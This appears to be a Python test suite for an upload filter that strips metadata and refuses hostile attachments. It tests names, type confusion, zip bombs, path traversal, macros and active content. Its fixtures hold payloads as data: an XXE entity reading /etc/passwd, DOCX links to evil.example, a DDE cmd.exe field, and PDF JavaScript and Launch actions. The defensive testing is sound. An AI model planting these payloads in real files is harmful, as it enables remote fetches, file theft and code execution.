"""What may come in as a file, and what others get of it (S30, S31, S32, S36). No database: the checks are pure."""

import io
import random
import zlib
from typing import Any

import pytest
from PIL import Image

from minassa.base import Invalid
from minassa.desk.attachments import archives, pictures
from minassa.desk.attachments.formats import Format, format_of
from minassa.desk.attachments.names import checked_name, is_safe_path
from minassa.desk.attachments.stripping import SharedForm, shared_form
from tests.desk import files
from tests.desk.files import CANARY, GOOD, PLACE, everything_in, unzipped, zipped


def taken(name: str, content: bytes) -> SharedForm:
    return shared_form(format_of(checked_name(name)), content)


def refusal(name: str, content: bytes) -> tuple[str, Any]:
    with pytest.raises(Invalid) as caught:
        taken(name, content)
    return caught.value.code.removeprefix("desk.attachment-"), caught.value.params.get("part")


@pytest.mark.parametrize("name", GOOD)
def test_what_the_usual_programs_write_is_taken(name: str) -> None:
    assert taken(name, GOOD[name]) is not None


@pytest.mark.parametrize("name", [one for one in GOOD if not one.endswith(("pdf", "csv", "txt", "json", "stix"))])
def test_s36_nothing_of_the_makers_is_in_the_shared_form(name: str) -> None:
    planted = everything_in(GOOD[name])
    assert CANARY.encode() in planted
    form = taken(name, GOOD[name])
    assert form.content is not None
    assert form.left == ()
    found = everything_in(form.content)
    for canary in (CANARY.encode(), CANARY.encode("utf-16-le"), PLACE, b"Exif", b"rsid"):
        assert canary not in found, canary


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_s36_a_picture_keeps_its_pixels_and_nothing_else(kind: str) -> None:
    cleaned = pictures.cleaned(files.picture(kind), kind)
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.size == (32, 16)
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "background", "loop"}
        red, _green, _blue = image.convert("RGB").getpixel((20, 8))  # type: ignore[misc] # three bands
        assert red > 180


def test_a_picture_lies_as_it_was_taken_and_keeps_what_is_see_through() -> None:
    turned = Image.new("RGB", (30, 10))
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    turned.save(out, format="JPEG", exif=exif)
    with Image.open(io.BytesIO(pictures.cleaned(out.getvalue(), "JPEG"))) as upright:
        assert upright.size == (10, 30)
    clear = io.BytesIO()
    Image.new("RGBA", (4, 4), (1, 2, 3, 0)).save(clear, format="PNG")
    with Image.open(io.BytesIO(pictures.cleaned(clear.getvalue(), "PNG"))) as kept:
        assert kept.mode == "RGBA"


def test_tracked_changes_are_accepted_and_the_text_stays() -> None:
    form = taken("note.docx", files.docx())
    assert form.content is not None
    parts = unzipped(form.content)
    text = parts["word/document.xml"].decode()
    for words in ("EXERCISE kept ", "EXERCISE inserted", " EXERCISE end", "EXERCISE row"):
        assert words in text
    for mark in ("<w:ins", "<w:del", "rPrChange", "deleted", "w:author"):
        assert mark not in text
    assert text.count("<w:tr>") == 1
    assert b'w:author="Author"' in parts["word/comments.xml"]
    assert b"EXERCISE remark" in parts["word/comments.xml"]
    assert b"https://example.org/" in parts["word/_rels/document.xml.rels"], "a link that a reader clicks stays"


def test_a_workbook_loses_printer_and_path_and_keeps_its_tables() -> None:
    form = taken("table.xlsx", files.xlsx())
    assert form.content is not None
    parts = unzipped(form.content)
    assert not [name for name in parts if "printerSettings" in name]
    assert b"printerSettings" not in parts["xl/worksheets/_rels/sheet1.xml.rels"]
    assert b"r:id" not in parts["xl/worksheets/sheet1.xml"]
    assert b'displayName="Table1"' in parts["xl/tables/table1.xml"]
    assert b'name="EXERCISE"' in parts["xl/workbook.xml"]


def test_an_open_document_keeps_its_text_and_its_first_part() -> None:
    form = taken("note.odt", files.odf())
    assert form.content is not None
    parts = unzipped(form.content)
    assert next(iter(parts)) == "mimetype"
    assert form.content[30:38] == b"mimetype"
    text = parts["content.xml"].decode()
    assert "EXERCISE before EXERCISE after" in text
    assert "EXERCISE remark" in text
    assert "tracked-changes" not in text


def test_every_shared_form_is_taken_again_and_changes_no_more() -> None:
    for name, content in GOOD.items():
        form = taken(name, content)
        if form.content is not None and not name.endswith(("jpg", "JPEG", "webp", "zip", "docx", "odt", "ods")):
            assert taken(name, form.content).content == form.content, name
        if form.content is not None:
            assert taken(name, form.content).left == ()


def test_what_cannot_be_taken_out_is_named() -> None:
    assert taken("report.pdf", files.pdf()).left == ("pdf",)
    assert taken("a.zip", zipped({"report.pdf": files.pdf()})).left == ("pdf",)
    drawing = files.docx(**{"word/media/image2.emf": b"EXERCISE"})
    assert taken("note.docx", drawing).left == ("picture",)
    hidden = files.docx(**{"customXml/item1.xml": "<a><b>EXERCISE</b></a>"})
    assert taken("note.docx", hidden).left == ("hidden-data",)
    assert taken("table.xlsx", files.xlsx(**{"xl/revisions/r1.xml": "<a/>"})).left == ("revisions",)
    assert taken("table.xlsx", files.xlsx(**{"xl/connections.xml": "<a/>"})).left == ("hidden-data",)
    inline = "<draw:image><office:binary-data>RVhFUkNJU0U=</office:binary-data></draw:image>"
    assert taken("note.odt", files.odf(more={"content.xml": files.odt_body(inline)})).left == ("picture",)


# Names.


@pytest.mark.parametrize(
    "name",
    [
        "", " ", ".", "..", "../x.pdf", "..\\x.pdf", "/etc/x.pdf", "a/b.pdf", "C:\\x.pdf", "a:b.pdf", "x.pdf\0.txt", "x\n.pdf", "x\x7f.pdf",
        "x\u202efdp.exe", "x\u202efdp.pdf", "\u2066x.pdf", "x\u200b.pdf", "x\ufeff.pdf", ".pdf", "x.pdf.", "x?.pdf", "x|y.pdf", "a\ud800.pdf",
        "letter.exe.pdf", "letter.EXE .pdf", "page.html.txt", "drawing.svg.png", "script.js.zip", "x\u2028y.pdf",
        "é" * 151 + ".pdf", "ت" * 130 + ".pdf",
    ],
)  # fmt: skip
def test_names_that_could_mislead_are_refused(name: str) -> None:
    with pytest.raises(Invalid) as caught:
        checked_name(name)
    assert caught.value.code == "desk.attachment-name"


def test_a_name_of_ten_megabytes_is_refused_without_being_looked_at() -> None:
    with pytest.raises(Invalid):
        checked_name("x" * 10_000_000 + ".pdf")


def test_names_of_people_are_kept_in_their_script() -> None:
    assert checked_name(" تقرير عن محمد ولد أحمد.pdf ") == "تقرير عن محمد ولد أحمد.pdf"
    assert checked_name("re\u0301sume\u0301 v1.2 (final).docx") == "résumé v1.2 (final).docx"


@pytest.mark.parametrize(
    "name", ["x.exe", "x.svg", "x.html", "x", "x.docm", "x.xlsm", "x.gif", "x.pdf ", "x.php", "x.xml", "x.tar.gz"]
)
def test_endings_that_are_not_taken_are_refused_with_those_that_are(name: str) -> None:
    if name.strip().endswith(".pdf"):
        assert format_of(checked_name(name)) is Format.PDF
        return
    with pytest.raises(Invalid) as caught:
        format_of(checked_name(name))
    assert caught.value.code == "desk.attachment-kind"
    assert "docx" in str(caught.value)


# Content that is not what its name says.


@pytest.mark.parametrize("name", GOOD)
@pytest.mark.parametrize(
    "other", ["x.pdf", "x.png", "x.jpg", "x.webp", "x.docx", "x.xlsx", "x.odt", "x.ods", "x.json", "x.zip", "x.txt"]
)
def test_a_file_under_another_ending_is_refused(name: str, other: str) -> None:
    """Texts are texts, and an office document is also an archive, but then one of other kinds."""
    real, claimed = format_of(name), format_of(other)
    both_texts = {real, claimed} <= {Format.CSV, Format.TXT, Format.JSON}
    if real is claimed or (both_texts and claimed is not Format.JSON) or (both_texts and real is Format.JSON):
        return
    with pytest.raises(Invalid):
        taken(other, GOOD[name])


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("page.txt", HTML),
        ("page.csv", b"\xef\xbb\xbf \n" + HTML),
        ("drawing.txt", SVG),
        ("drawing.png", SVG),
        ("both.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + files.pdf()[9:]),
        ("late.pdf", HTML + files.pdf()),
        ("archive.pdf", files.pdf() + zipped({"x.html": HTML})),
        ("photo.jpg", files.picture() + zipped({"x.html": HTML})),
        ("plan.png", files.picture("PNG") + b"%PDF-1.7" + zipped({"a.txt": b"x"})),
        ("binary.txt", b"MZ\x00\x01\x02EXERCISE"),
        ("binary.csv", bytes(range(256))),
        ("half.json", files.stix()[:-2]),
        ("two.json", files.stix() * 2),
        ("short.pdf", files.pdf()[:-8]),
    ],
)
def test_a_file_with_two_faces_is_refused(name: str, content: bytes) -> None:
    assert refusal(name, content)[0] in {"content", "picture"}


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("part", [0.3, 0.7, 0.97])
def test_half_a_picture_is_no_picture(kind: str, part: float) -> None:
    whole = files.picture(kind, size=(300, 300))
    assert refusal(f"x.{kind.lower()}", whole[: int(len(whole) * part)])[0] in {"picture", "content"}


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("lenient", [True, False])
def test_half_a_picture_is_told_by_its_structure_whatever_other_libraries_ask_pillow(
    kind: str, lenient: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """WeasyPrint asks Pillow, for the whole process, to make up what is missing."""
    monkeypatch.setattr("PIL.ImageFile.LOAD_TRUNCATED_IMAGES", lenient)
    noise = Image.frombytes("RGB", (120, 90), random.Random(2).randbytes(120 * 90 * 3))
    for given in ({}, {"progressive": True, "restart_marker_rows": 1} if kind == "JPEG" else {}):
        out = io.BytesIO()
        noise.save(out, format=kind, **given)
        whole = out.getvalue()
        pictures.check_picture(whole, kind)
        for at in {len(whole) * part // 40 for part in range(1, 40)} | {len(whole) - 1}:
            with pytest.raises(Invalid):
                pictures.check_picture(whole[:at], kind)


def test_a_picture_of_a_phone_with_more_behind_it_is_taken_and_what_is_behind_stays() -> None:
    both = files.picture() + files.picture(size=(8, 8))
    assert pictures.cleaned(both, "JPEG") == pictures.cleaned(files.picture(), "JPEG")


@pytest.mark.parametrize("name", ["note.docx", "table.xlsx", "note.odt", "all.zip", "report.pdf"])
@pytest.mark.parametrize("part", [0.2, 0.6, 0.99])
def test_half_a_document_is_no_document(name: str, part: float) -> None:
    assert refusal(name, GOOD[name][: int(len(GOOD[name]) * part)])[0] in {"archive", "content"}


def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_decoded() -> None:
    header = zlib.compress(b"\0" * 100)
    big = files.picture("PNG", size=(8, 8), exif=False)
    at = big.index(b"IHDR") + 4
    width = (60_000).to_bytes(4, "big")
    head = width + width + big[at + 8 : at + 13]
    forged = big[:at] + head + zlib.crc32(b"IHDR" + head).to_bytes(4, "big") + big[at + 17 :]
    assert header
    assert refusal("bomb.png", forged)[0] == "picture"


def test_a_moving_picture_is_refused() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "green", "blue")]
    frames[0].save(out, format="WEBP", save_all=True, append_images=frames[1:])
    assert refusal("moves.webp", out.getvalue())[0] == "picture"


# Archives.


def nested(levels: int, inner: bytes) -> bytes:
    for _ in range(levels):
        inner = zipped({"a.zip": inner})
    return inner


@pytest.mark.parametrize(
    ("content", "part"),
    [
        (files.bomb(), "ratio"),
        (zipped({f"{number}.txt": b"\0" * 40_000_000 for number in range(3)}), "size"),
        (zipped({f"{number}.txt": b"" for number in range(2_001)}), "count"),
        (nested(3, zipped({"a.txt": b"EXERCISE"})), "depth"),
        (files.overlapping(), "overlap"),
        (files.linked(), "link"),
        (files.named("../../etc/cron.d/x.txt"), "path"),
        (files.named("/etc/x.txt"), "path"),
        (files.named("C:/x.txt"), "path"),
        (files.named("a\\..\\x.txt"), "path"),
        (files.named("a/./x.txt"), "path"),
        (files.named("x\u202etxt.exe"), "path"),
        (files.named("x.txt\0.exe"), "path"),
        (files.lying(), "damaged"),
        (b"#!/bin/sh\n" + zipped({"a.txt": b"x"}), "damaged"),
        (zipped({"a.txt": b"x"}) + b"behind", "hidden"),
        (zipped({"A.txt": b"x", "a.txt": b"y"}), "name"),
        (zipped({"a.txt": b"x"}, method=12), "packing"),
        (b"PK\x05\x06" + b"\0" * 18, "damaged"),
    ],
)
def test_s31_archives_that_attack_are_refused_before_they_are_unpacked(content: bytes, part: str) -> None:
    assert refusal("x.zip", content) == ("archive", part)


def test_s31_a_bomb_of_bombs_is_refused_wherever_it_lies() -> None:
    inside = zipped({f"{number}.zip": zipped({"0.txt": b"E" * 900_000}) for number in range(16)})
    many = zipped({f"{number}.zip": inside for number in range(16)})
    assert len(many) < 600_000
    assert refusal("42.zip", many)[0] == "archive"
    assert refusal("note.docx", files.docx(**{"word/embeddings/a.xlsx": many}))[0] in {"archive", "content"}


def test_s31_the_budget_counts_over_all_archives_together() -> None:
    inside = zipped({"a.txt": b"EXERCISE " * 2_000_000}, method=0)
    some = zipped({f"{number}.zip": inside for number in range(6)}, method=0)
    assert refusal("x.zip", some) == ("archive", "size")


def test_an_archive_with_a_password_is_refused() -> None:
    locked = bytearray(zipped({"a.txt": b"EXERCISE"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    assert refusal("x.zip", bytes(locked)) == ("archive", "locked")


def test_an_archive_holds_only_what_would_be_taken_alone() -> None:
    assert refusal("x.zip", zipped({"a.exe": b"x"}))[0] == "kind"
    assert refusal("x.zip", zipped({"a.svg": SVG}))[0] == "kind"
    assert refusal("x.zip", zipped({"a.txt": HTML}))[0] == "content"
    assert refusal("x.zip", zipped({"letter.exe.pdf": files.pdf()}))[0] == "name"
    assert refusal("x.zip", zipped({})) == ("archive", "damaged")


@pytest.mark.parametrize("path", ["a/b.txt", "تمرين/x.csv", "a b/c.txt", "a/"])
def test_plain_paths_are_safe(path: str) -> None:
    assert is_safe_path(path)


# What documents hide.

LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


@pytest.mark.parametrize(
    "markup", [LAUGHS, OUTSIDE, "<a>", "", "<a/><b/>", "<d>" * 300 + "</d>" * 300, LAUGHS.encode("utf-16")]
)
def test_s32_entities_document_types_and_broken_markup_are_refused(markup: str | bytes) -> None:
    assert refusal("note.docx", files.docx(**{"word/styles.xml": markup}))[0] == "markup"
    if markup:
        assert refusal("note.odt", files.odf(more={"styles.xml": markup}))[0] == "markup"


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"EXERCISE"},
        {"word/embeddings/oleObject1.bin": b"EXERCISE"},
        {
            "[Content_Types].xml": files.types("/word/document.xml").replace(
                "document.main", "document.macroEnabled.main"
            )
        },
        {
            "word/_rels/settings.xml.rels": files.relations(
                ("attachedTemplate", "https://evil.example/t.dotm", "External")
            )
        },
        {"word/_rels/settings.xml.rels": files.relations(("attachedTemplate", "\\\\evil.example\\t.dotm", "External"))},
        {
            "word/_rels/settings.xml.rels": files.relations(
                ("attachedTemplate", "file://evil.example/t.dotm", "external")
            )
        },
        {"word/_rels/document.xml.rels": files.relations(("image", "http://evil.example/pixel.png", "External"))},
        {"word/_rels/document.xml.rels": files.relations(("oleObject", "http://evil.example/x", "External"))},
        {
            "word/header1.xml": f"<w:hdr {files.W}><w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
            "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:hdr>"
        },
        {"word/_rels/document.xml.rels": files.relations(("aFChunk", "chunk.docx", ""))},
        {"word/_rels/document.xml.rels": files.relations(("control", "activeX1.xml", ""))},
        {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
        {
            "xl/connections.xml": '<connections><connection id="1"><webPr url="http://evil.example/"/></connection></connections>'
        },
        {"xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>'},
    ],
)
def test_a_document_that_runs_or_fetches_something_is_refused(more: dict[str, bytes | str]) -> None:
    assert refusal("note.docx", files.docx(**more))[0] == "active"


@pytest.mark.parametrize(
    "inside",
    [
        '<draw:image xlink:href="http://evil.example/pixel.png"/>',
        '<draw:image xlink:href="//evil.example/pixel.png"/>',
        '<draw:object xlink:href="../outside.ods"/>',
        '<draw:object-ole xlink:href="./Object 1"/>',
        '<draw:plugin xlink:href="x"/>',
    ],
)
def test_an_open_document_that_fetches_something_is_refused(inside: str) -> None:
    assert refusal("note.odt", files.odf(more={"content.xml": files.odt_body(inside)}))[0] == "active"


def test_an_open_document_with_scripts_or_a_password_is_refused() -> None:
    assert refusal("note.odt", files.odf(more={"Basic/Standard/Module1.xml": "<a/>"}))[0] == "active"
    locked = '<m xmlns="x"><encryption-data/></m>'
    assert refusal("note.odt", files.odf(more={"META-INF/manifest.xml": locked})) == ("archive", "locked")


@pytest.mark.parametrize("part", ["word/x.exe", "word/x.html", "word/x", "word/x.zip"])
def test_a_document_with_parts_of_other_kinds_is_refused(part: str) -> None:
    assert refusal("note.docx", files.docx(**{part: b"EXERCISE"}))[0] == "archive"


@pytest.mark.parametrize(
    "inside",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Java#53cript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Type /EmbeddedFile >>",
        files.object_stream(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        files.object_stream(b"1 0 << /S /JavaScript >>").replace(b"/ObjStm", b"/Obj#53tm"),
        files.object_stream(b"1 0 << /S /JavaScript >>").replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"),
        files.object_stream(b"1 0 << /S /JavaScript >>").replace(
            b"/Filter", b"/DecodeParms << /Predictor 12 >> /Filter"
        ),
        files.object_stream(b"1 0 << /Type /Page >>") + files.object_stream(b"1 0 << /S /Launch >>"),
    ],
)
def test_a_pdf_with_scripts_or_files_is_refused(inside: bytes) -> None:
    assert refusal("x.pdf", files.pdf(inside))[0] == "active"


def test_a_pdf_whose_packed_objects_are_broken_is_refused() -> None:
    broken = files.object_stream(b"1 0 << /Type /Page >>").replace(zlib.compress(b"1 0 << /Type /Page >>")[:4], b"EXER")
    assert refusal("x.pdf", files.pdf(broken))[0] == "content"
    plain = b"3 0 obj\n<< /Type /ObjStm /Length 21 >>\nstream\n1 0 << /Type /Page >>\nendstream\nendobj\n"
    assert taken("x.pdf", files.pdf(plain)).left == ("pdf",)


def test_a_pdf_with_a_password_or_a_bomb_is_refused() -> None:
    assert refusal("x.pdf", files.pdf(b"<< /Encrypt 5 0 R >>"))[0] == "locked"
    assert refusal("x.pdf", files.pdf(files.object_stream(b" " * 100_000_001))) == ("archive", "size")
    assert taken("x.pdf", files.pdf(files.object_stream(b"1 0 << /Type /Page >>"))).left == ("pdf",)


def test_limits_stand_where_the_docs_say() -> None:
    assert (archives.MOST_FILES, archives.MOST_BYTES, archives.DEEPEST) == (2_000, 100_000_000, 3)
    assert pictures.MOST_PIXELS == 40_000_000


def test_s36_slides_keep_their_words_and_say_what_a_person_must_look_at() -> None:
    kept = unzipped(taken("slides.pptx", files.pptx()).content or b"")
    assert b"EXERCISE kept" in kept["ppt/slides/slide1.xml"]
    assert b"EXERCISE remark" in kept["ppt/comments/comment1.xml"]
    assert not {"ppt/revisionInfo.xml", "ppt/changesInfos/changesInfo1.xml"} & kept.keys()
    assert b"revisionInfo" not in kept["ppt/_rels/presentation.xml.rels"] + kept["[Content_Types].xml"]
    for name, part, word in (
        ("ppt/notesSlides/notesSlide1.xml", files.slide("EXERCISE for the speaker alone"), "notes"),
        ("ppt/slides/slide2.xml", files.slide("EXERCISE hidden", 'show="0"'), "hidden-data"),
        ("ppt/tags/tag1.xml", files.slide("EXERCISE of an add-in"), "hidden-data"),
    ):
        assert taken("slides.pptx", files.pptx(**{name: part})).left == (word,)
    for part in ("ppt/vbaProject.bin", "ppt/media/media1.mp4"):
        assert refusal("slides.pptx", files.pptx(**{part: b"EXERCISE"}))[0] in {"active", "archive"}
